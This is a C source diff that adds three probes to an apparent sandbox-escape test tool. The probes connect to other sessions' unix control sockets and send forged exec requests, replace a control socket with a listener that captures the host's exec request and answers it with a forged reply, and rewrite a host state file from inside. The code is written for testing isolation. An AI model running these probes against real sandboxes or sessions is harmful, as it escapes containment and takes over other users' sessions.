@@ -51,6 +51,17 @@
  *                                 then linkat, a directory chmod 01777 (success: all did)
  *   probe fill-file PATH MIB      write MIB mebibytes to PATH (tmpfs pages: no resident set of
  *                                 ours to speak of, so an OOM killer weighs everyone else)
+ *   probe hijack-holder DIR...    find unix sockets under each DIR (another session's control
+ *                                 socket) and send each a raw ns exec request for `true`;
+ *                                 success: one answered 'R' (ran a command in that session)
+ *   probe plant-listener PATH OUT SECONDS
+ *                                 replace PATH with our own listening socket, take one
+ *                                 connection within SECONDS, save what it sent in OUT, answer a
+ *                                 forged 'R' and exit 42; success: it sent an exec request
+ *   probe rewrite-file PATH OLD NEW [OLD NEW]...
+ *                                 replace the first OLD in PATH by NEW, for each pair found (a
+ *                                 state file rewritten from inside; escape.sh judges what the
+ *                                 host then does)
  */
 #ifndef _GNU_SOURCE
 #define _GNU_SOURCE
@@ -971,6 +982,186 @@ static int fill_file(const char *path, long mib) {
   return verdict(ESCAPED, "fill-file", "wrote %ld MiB to %s", mib, path);
 }
 
+/* ---- control sockets of other sessions (attacks.d/10-control-socket.sh) ---------------------- */
+
+/* The ns holder's request ("CDN1") as sent before there was a handshake, and its reply. */
+#define NS_REQUEST_MAGIC 0x314e4443u
+#define NS_REPLY_MAGIC 0x314e5243u
+
+static int send_with_stdio(int fd, const void *buf, size_t len) {
+  int fds[3] = {0, 1, 2};
+  union {
+    char buf[CMSG_SPACE(sizeof(fds))];
+    struct cmsghdr align;
+  } control;
+  memset(&control, 0, sizeof(control));
+  struct iovec iov = {.iov_base = (void *)buf, .iov_len = len};
+  struct msghdr msg = {.msg_iov = &iov,
+                       .msg_iovlen = 1,
+                       .msg_control = control.buf,
+                       .msg_controllen = sizeof(control.buf)};
+  struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);
+  cm->cmsg_level = SOL_SOCKET;
+  cm->cmsg_type = SCM_RIGHTS;
+  cm->cmsg_len = CMSG_LEN(sizeof(fds));
+  memcpy(CMSG_DATA(cm), fds, sizeof(fds));
+  return sendmsg(fd, &msg, MSG_NOSIGNAL) == (ssize_t)len ? 0 : -1;
+}
+
+/* Send a raw exec request for `true` on a connected socket: 1 when the peer answered 'R'. */
+static int raw_exec(int fd) {
+  static const char payload[] = "/\0true";
+  uint32_t h[5] = {NS_REQUEST_MAGIC, sizeof(payload), 1, 0, 0};
+  unsigned char buf[sizeof(h) + sizeof(payload)];
+  memcpy(buf, h, sizeof(h));
+  memcpy(buf + sizeof(h), payload, sizeof(payload));
+  if (send_with_stdio(fd, buf, sizeof(buf)) < 0)
+    return 0;
+  struct pollfd pfd = {.fd = fd, .events = POLLIN};
+  uint32_t reply[4];
+  size_t got = 0;
+  while (got < sizeof(reply) && poll(&pfd, 1, 5000) == 1) {
+    ssize_t n = read(fd, (char *)reply + got, sizeof(reply) - got);
+    if (n <= 0)
+      break;
+    got += (size_t)n;
+  }
+  return got == sizeof(reply) && reply[0] == NS_REPLY_MAGIC && reply[1] == 'R';
+}
+
+static void find_sockets(const char *dir, int depth, int *found, int *connected, int *ran,
+                         char *ran_path, size_t ran_size) {
+  DIR *d = opendir(dir);
+  if (!d)
+    return;
+  struct dirent *de;
+  while ((de = readdir(d)) && !*ran) {
+    if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
+      continue;
+    char path[4096];
+    snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+    struct stat st;
+    if (lstat(path, &st) < 0)
+      continue;
+    if (S_ISDIR(st.st_mode) && depth > 0) {
+      find_sockets(path, depth - 1, found, connected, ran, ran_path, ran_size);
+    } else if (S_ISSOCK(st.st_mode)) {
+      (*found)++;
+      /* Through an O_PATH fd of the socket: paths may exceed sun_path. */
+      struct sockaddr_un addr = {.sun_family = AF_UNIX};
+      int node = open(path, O_PATH | O_NOFOLLOW | O_CLOEXEC);
+      int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+      snprintf(addr.sun_path, sizeof(addr.sun_path), "/proc/self/fd/%d", node);
+      if (node >= 0 && fd >= 0 && connect(fd, (struct sockaddr *)&addr, sizeof(addr)) == 0) {
+        (*connected)++;
+        if (raw_exec(fd)) {
+          *ran = 1;
+          snprintf(ran_path, ran_size, "%s", path);
+        }
+      }
+      if (fd >= 0)
+        close(fd);
+      if (node >= 0)
+        close(node);
+    }
+  }
+  closedir(d);
+}
+
+static int hijack_holder(int n, char **dirs) {
+  int found = 0, connected = 0, ran = 0;
+  char ran_path[4096] = "";
+  for (int i = 0; i < n && !ran; i++)
+    find_sockets(dirs[i], 8, &found, &connected, &ran, ran_path, sizeof(ran_path));
+  if (ran)
+    return verdict(ESCAPED, "hijack-holder", "ran a command in another session through %s",
+                   ran_path);
+  return verdict(BLOCKED, "hijack-holder", "%d sockets found, %d connected, none ran a command",
+                 found, connected);
+}
+
+static int plant_listener(const char *path, const char *out, int seconds) {
+  char dir[4096];
+  snprintf(dir, sizeof(dir), "%s", path);
+  char *slash = strrchr(dir, '/');
+  if (!slash)
+    return verdict(BROKEN, "plant-listener", "%s is not a path", path);
+  *slash = 0;
+  int dfd = open(dir, O_PATH | O_DIRECTORY);
+  if (dfd < 0)
+    return BLOCK_ERRNO("plant-listener", dir);
+  unlinkat(dfd, slash + 1, 0);
+  struct sockaddr_un addr = {.sun_family = AF_UNIX};
+  snprintf(addr.sun_path, sizeof(addr.sun_path), "/proc/self/fd/%d/%s", dfd, slash + 1);
+  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+  if (fd < 0 || bind(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0 || listen(fd, 4) < 0)
+    return BLOCK_ERRNO("plant-listener", path);
+  struct pollfd pfd = {.fd = fd, .events = POLLIN};
+  if (poll(&pfd, 1, seconds * 1000) != 1)
+    return verdict(BLOCKED, "plant-listener", "nobody connected to %s", path);
+  int conn = accept(fd, NULL, NULL);
+  if (conn < 0)
+    return BLOCK_ERRNO("plant-listener", "accept");
+  static unsigned char got[65536];
+  size_t n = 0;
+  struct pollfd cp = {.fd = conn, .events = POLLIN};
+  while (n < sizeof(got) && poll(&cp, 1, 1000) == 1) {
+    ssize_t r = read(conn, got + n, sizeof(got) - n);
+    if (r <= 0)
+      break;
+    n += (size_t)r;
+  }
+  int ofd = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+  if (ofd >= 0) {
+    (void)!write(ofd, got, n);
+    close(ofd);
+  }
+  uint32_t magic;
+  if (n >= 4)
+    memcpy(&magic, got, 4);
+  if (n >= 20 && magic == NS_REQUEST_MAGIC) {
+    uint32_t running[4] = {NS_REPLY_MAGIC, 'R', 0, 0}, exited[4] = {NS_REPLY_MAGIC, 'X', 42, 0};
+    (void)!write(conn, running, sizeof(running));
+    (void)!write(conn, exited, sizeof(exited));
+    return verdict(ESCAPED, "plant-listener",
+                   "the host sent its exec request (%zu bytes) to our "
+                   "socket at %s",
+                   n, path);
+  }
+  return verdict(BLOCKED, "plant-listener", "%zu bytes reached %s, no exec request", n, path);
+}
+
+static int rewrite_file(const char *path, int n_pairs, char **pairs) {
+  static char buf[1 << 20], next[1 << 20];
+  int fd = open(path, O_RDONLY);
+  if (fd < 0)
+    return BLOCK_ERRNO("rewrite-file", path);
+  ssize_t n = read(fd, buf, sizeof(buf) - 1);
+  close(fd);
+  if (n < 0)
+    return BLOCK_ERRNO("rewrite-file", path);
+  buf[n] = 0;
+  int replaced = 0;
+  for (int i = 0; i + 1 < n_pairs; i += 2) {
+    char *at = strstr(buf, pairs[i]);
+    if (!at)
+      continue; /* a field this state does not have */
+    snprintf(next, sizeof(next), "%.*s%s%s", (int)(at - buf), buf, pairs[i + 1],
+             at + strlen(pairs[i]));
+    memcpy(buf, next, strlen(next) + 1);
+    replaced++;
+  }
+  if (!replaced)
+    return verdict(BROKEN, "rewrite-file", "%s holds none of the strings to replace", path);
+  fd = open(path, O_WRONLY | O_TRUNC);
+  if (fd < 0)
+    return BLOCK_ERRNO("rewrite-file", path);
+  if (write(fd, buf, strlen(buf)) != (ssize_t)strlen(buf))
+    return BLOCK_ERRNO("rewrite-file", path);
+  close(fd);
+  return verdict(ESCAPED, "rewrite-file", "rewrote %d fields of %s", replaced, path);
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   if (argc < 2)
@@ -1041,6 +1232,12 @@ int main(int argc, char **argv) {
     return big_file(a, atol(b));
   if (!strcmp(v, "fill-file") && a && b)
     return fill_file(a, atol(b));
+  if (!strcmp(v, "hijack-holder") && a)
+    return hijack_holder(argc - 2, argv + 2);
+  if (!strcmp(v, "plant-listener") && a && b && argc > 4)
+    return plant_listener(a, b, atoi(argv[4]));
+  if (!strcmp(v, "rewrite-file") && a && b && argc > 4)
+    return rewrite_file(a, argc - 3, argv + 3);
   int r = syscalls(v);
   if (r != BROKEN)
     return r;
